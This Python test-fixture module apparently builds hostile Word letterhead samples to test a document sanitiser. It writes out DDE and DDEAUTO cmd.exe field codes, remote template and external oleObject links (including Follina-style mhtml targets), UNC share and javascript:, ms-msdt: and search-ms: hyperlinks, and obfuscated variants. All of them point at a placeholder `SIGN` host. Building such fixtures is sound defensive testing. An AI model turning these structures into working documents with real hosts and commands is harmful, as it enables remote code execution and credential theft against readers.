"""Letterheads that somebody else made: each would fetch, start, ask or show what no letterhead should.

Whatever one of them leads to or runs holds `SIGN`, which no document of ours may hold.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from attacks import SIGN
from letterheads import OFFICE, A, R, W, raw

if TYPE_CHECKING:
    from collections.abc import Mapping

HOST = f"https://{SIGN}.example/x"
KIND = f"{OFFICE}/officeDocument/2006/relationships"
SPACES = (
    f'{W} {R} {A} xmlns:wp="{OFFICE}/drawingml/2006/wordprocessingDrawing" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:another-program"'
)
STYLES = (
    f'<w:styles {W}><w:style w:type="paragraph" w:default="1" w:styleId="N"><w:name w:val="Normal"/></w:style>'
    "</w:styles>"
)

Tie = tuple[str, str, str]
"""A relationship that leads out of the file: its id, the last word of its kind, its target."""


def relationships(*ties: Tie) -> str:
    entries = "".join(
        f'<Relationship Id="{id_}" Type="{KIND}/{kind}" Target="{target}" TargetMode="External"/>'
        for id_, kind, target in ties
    )
    return f'<Relationships xmlns="{OFFICE}/package/2006/relationships">{entries}</Relationships>'


def headed(inner: str, *ties: Tie, more: Mapping[str, bytes | str] | None = None) -> bytes:
    """A letterhead with this in its header, beside words that stay."""
    header = f"<w:hdr {SPACES}><w:p><w:r><w:t>Ministry</w:t></w:r></w:p>{inner}</w:hdr>"
    rels = {"word/_rels/header1.xml.rels": relationships(*ties)} if ties else {}
    return raw({"styles": STYLES, "header1": header}, more={**rels, **(more or {})})


def field(*codes: str) -> str:
    """A field in a paragraph, its code in as many runs as there are pieces."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{SIGN}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


CODES = {
    "DDE": f'DDE cmd "/c {SIGN}"',
    "DDEAUTO": f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k {SIGN}"',
    "small letters": f'  ddeauto cmd "/k {SIGN}"',
    "INCLUDETEXT": f'INCLUDETEXT "{HOST}"',
    "INCLUDEPICTURE": f'INCLUDEPICTURE "{HOST}" \\d',
    "INCLUDE": f"INCLUDE {HOST}",
    "IMPORT": f"IMPORT \\\\\\\\{SIGN}\\\\x.png",
    "LINK": f'LINK Excel.Sheet.8 "\\\\\\\\{SIGN}\\\\x.xls" R1C1 \\a',
    "DATABASE": f'DATABASE \\d "{HOST}" \\c "DSN={SIGN}"',
    "RD": f"RD {HOST}",
    "EMBED": f"EMBED {SIGN}",
    "MACROBUTTON": f"MACROBUTTON {SIGN} Click",
    "AUTOTEXT": f"AUTOTEXT {SIGN}",
    "ASK": f'ASK {SIGN} "Password?"',
    "FILLIN": f'FILLIN "{SIGN}"',
    "PRINT": f'PRINT "{SIGN}"',
    "ADDIN": f"ADDIN {SIGN}",
    "MERGEFIELD": f"MERGEFIELD {SIGN}",
    "IF": f'IF 1=1 "{SIGN}"',
    "QUOTE": f"QUOTE {SIGN}",
    "a link to a file": f'HYPERLINK "file://{SIGN}/x"',
    "a link that runs": f'HYPERLINK "javascript:{SIGN}"',
    "a link to a share": f'HYPERLINK "\\\\\\\\{SIGN}\\\\x"',
    "a link that hides one": f'HYPERLINK "https://example.org" \\o "x" INCLUDETEXT {SIGN}',
}

_BEGIN, _END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
_TEXT = "<w:r><w:instrText>{}</w:instrText></w:r>"

FIELDS = {
    **{name: field(code) for name, code in CODES.items()},
    **{f"{name}, simple": f"<w:p><w:fldSimple w:instr='{code}'/></w:p>" for name, code in CODES.items()},
    "in pieces": field("D", "DE", "AUTO ", SIGN),
    "in pieces of two cases": field("IncLude", "TEXT ", HOST),
    "over two paragraphs": f"<w:p>{_BEGIN}{_TEXT.format('DDE')}</w:p><w:p>{_TEXT.format(f'AUTO {SIGN}')}{_END}</w:p>",
    "without an end": f"<w:p>{_BEGIN}{_TEXT.format(f'DDEAUTO {SIGN}')}</w:p>",
    "without a beginning": f"<w:p>{_TEXT.format(f'DDEAUTO {SIGN}')}{_END}</w:p>",
    "outside of a paragraph": _TEXT.format(f"DDEAUTO {SIGN}"),
    "deleted": f"<w:p><w:del><w:r><w:delInstrText>DDEAUTO {SIGN}</w:delInstrText></w:r></w:del></w:p>",
    "made by another field": (
        f"<w:p>{_BEGIN}{_BEGIN}{_TEXT.format('QUOTE 68 68 69')}{_END}{_TEXT.format(SIGN)}{_END}</w:p>"
    ),
    "behind a field that shows": (
        f"<w:p>{_BEGIN}{_TEXT.format('TITLE')}{_END}{_BEGIN}{_TEXT.format(f'DDE {SIGN}')}{_END}</w:p>"
    ),
}

_SHAPE = "<w:p><w:r><w:pict><v:shape {}><v:imagedata {}/><v:fill {}/></v:shape></w:pict></w:r></w:p>"
_DRAWING = (
    '<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="x">{}</wp:docPr><a:graphic><a:graphicData>{}'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)

HEADERS = {
    **{name: headed(xml) for name, xml in FIELDS.items()},
    "altChunk": headed('<w:altChunk r:id="a"/>', ("a", "aFChunk", HOST)),
    "subDoc": headed('<w:p><w:subDoc r:id="a"/></w:p>', ("a", "subDocument", HOST)),
    "a linked object": headed(
        f'<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="{SIGN}" r:id="a"/></w:object></w:r></w:p>',
        ("a", "oleObject", f"mhtml:{HOST}!x-usc:{HOST}"),
    ),
    "an object in a picture": headed(
        f'<w:p><w:r><w:pict><o:OLEObject Type="Link" ProgID="{SIGN}"/></w:pict></w:r></w:p>'
    ),
    "a control": headed(f'<w:p><w:r><w:control r:id="a" w:name="{SIGN}"/></w:r></w:p>', ("a", "control", HOST)),
    "a linked picture": headed(_DRAWING.format("", '<a:blip r:link="a"/>'), ("a", "image", HOST)),
    "an embedded picture that is none": headed(_DRAWING.format("", '<a:blip r:embed="a"/>'), ("a", "image", HOST)),
    "a picture of a share": headed(_SHAPE.format("", 'r:href="a"', ""), ("a", "image", f"file:////{SIGN}/x.png")),
    "a picture by its source": headed(_SHAPE.format("", f'src="{HOST}" o:href="{HOST}" o:althref="{HOST}"', "")),
    "a ground by its source": headed(_SHAPE.format("", "", f'src="{HOST}" o:href="{HOST}"')),
    "a shape that leads": headed(_SHAPE.format(f'href="javascript:{SIGN}"', "", "")),
    "a rule that leads": headed(_SHAPE.format(f'o:hr="t" o:hrhref="file:///{SIGN}"', "", "")),
    "a picture that leads": headed(
        _DRAWING.format('<a:hlinkClick r:id="a"/>', ""), ("a", "hyperlink", f"file:///{SIGN}")
    ),
    "bound data": headed(f'<w:sdt><w:sdtPr><w:dataBinding w:xpath="{SIGN}"/></w:sdtPr><w:sdtContent/></w:sdt>'),
    "a form": headed(f'<w:p><w:r><w:ffData><w:entryMacro w:val="{SIGN}"/></w:ffData></w:r></w:p>'),
    "words of another program": headed(f'<x:run command="{SIGN}"/><w:p><x:open href="{HOST}"/></w:p>'),
    "an instruction": headed(f'<?mso-application progid="{SIGN}"?><?xml-stylesheet href="{HOST}"?>'),
    **{
        f"a link to {target}": headed(
            '<w:p><w:hyperlink r:id="a"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>', ("a", "hyperlink", target)
        )
        for target in (
            *(f"javascript:{SIGN}", f"JaVaScRiPt:{SIGN}", f" javascript:{SIGN}", f"java&#10;script:{SIGN}"),
            *(f"data:text/html,{SIGN}", f"vbscript:{SIGN}", f"file:///{SIGN}", f"\\\\{SIGN}\\x", f"//{SIGN}/x"),
            *(f"ms-msdt:/id {SIGN}", f"search-ms:query={SIGN}", f"https&#58;{SIGN}", f"%68ttps://{SIGN}", f"{SIGN}"),
            *(f"https://{SIGN} x", f"https://{SIGN}&quot;x", f"ｈttps://{SIGN}", f"https://{SIGN}а"),  # noqa: RUF001
        )
    },
}
"""By what they hold in their header."""

_SETTINGS = (
    f'<w:settings {W} {R}><w:attachedTemplate r:id="a"/><w:mailMerge><w:query w:val="{SIGN}"/></w:mailMerge>'
    "</w:settings>"
)


def beside(ties: str, parts: Mapping[str, bytes | str]) -> bytes:
    """A letterhead whose main part leads to more than styles."""
    whole = f'<Relationship Id="s" Type="{KIND}/styles" Target="styles.xml"/>{ties}'
    rels = f'<Relationships xmlns="{OFFICE}/package/2006/relationships">{whole}</Relationships>'
    return raw({"styles": STYLES}, more={"word/_rels/document.xml.rels": rels, **parts})


def _inside(kind: str, target: str) -> str:
    return f'<Relationship Id="i" Type="{KIND}/{kind}" Target="{target}"/>'


def _outside(kind: str, target: str = HOST) -> str:
    return f'<Relationship Id="o" Type="{KIND}/{kind}" Target="{target}" TargetMode="External"/>'


FILES = {
    "a remote template": beside(
        _inside("settings", "settings.xml"),
        {
            "word/settings.xml": _SETTINGS,
            "word/_rels/settings.xml.rels": relationships(("a", "attachedTemplate", HOST)),
        },
    ),
    "Follina, CVE-2022-30190": beside(_outside("oleObject", f"mhtml:{HOST}!x-usc:{HOST}"), {}),
    "CVE-2021-40444": beside(_outside("oleObject", f"mhtml:{HOST}"), {}),
    "CVE-2017-0199": beside(_outside("oleObject"), {}),
    "frames": beside(
        _inside("webSettings", "webSettings.xml"),
        {
            "word/webSettings.xml": f'<w:webSettings {W} {R}><w:frameset><w:frame><w:sourceFileName r:id="f"/>'
            "</w:frame></w:frameset></w:webSettings>",
            "word/_rels/webSettings.xml.rels": relationships(("f", "frame", HOST)),
        },
    ),
    "a mail merge": beside(_outside("mailMergeSource") + _outside("mailMergeHeaderSource"), {}),
    "macros beside it": beside(_inside("vbaProject", "vbaProject.bin"), {"word/vbaProject.bin": SIGN}),
    "a control beside it": beside(
        _inside("control", "activeX/activeX1.xml"), {"word/activeX/activeX1.xml": f"<x>{SIGN}</x>"}
    ),
    "an object beside it": beside(_inside("oleObject", "embeddings/o.bin"), {"word/embeddings/o.bin": SIGN}),
    "data beside it": beside(_inside("customXml", "../customXml/item1.xml"), {"customXml/item1.xml": f"<x>{SIGN}</x>"}),
    "a chunk beside it": beside(_inside("aFChunk", "x.html"), {"word/x.html": f"<script>{SIGN}</script>"}),
    "its ribbon": beside("", {"customUI/customUI.xml": f'<customUI onLoad="{SIGN}"/>'}),
    "styles from elsewhere": beside(_outside("styles"), {}),
    "a header from elsewhere": beside(_outside("header"), {}),
    "lists with a picture": raw(
        {
            "styles": STYLES,
            "numbering": f'<w:numbering {SPACES}><w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape><v:imagedata '
            f'src="{HOST}" r:href="a"/></v:shape></w:pict></w:numPicBullet></w:numbering>',
        },
        more={"word/_rels/numbering.xml.rels": relationships(("a", "image", HOST))},
    ),
    "a theme with a picture": raw(
        {
            "styles": STYLES,
            "theme": f'<a:theme {A} {R} name="x"><a:themeElements><a:fmtScheme><a:bgFillStyleLst><a:blipFill><a:blip '
            f'r:link="a"/></a:blipFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>',
        },
        more={"word/_rels/theme.xml.rels": relationships(("a", "image", HOST))},
    ),
    "styles that hold a field": raw(
        {
            "styles": f'<w:styles {SPACES}><x:run>{SIGN}</x:run>{field(CODES["DDE"])}<w:altChunk r:id="{SIGN}"/>'
            "</w:styles>"
        }
    ),
}
"""By what they hold beside it."""
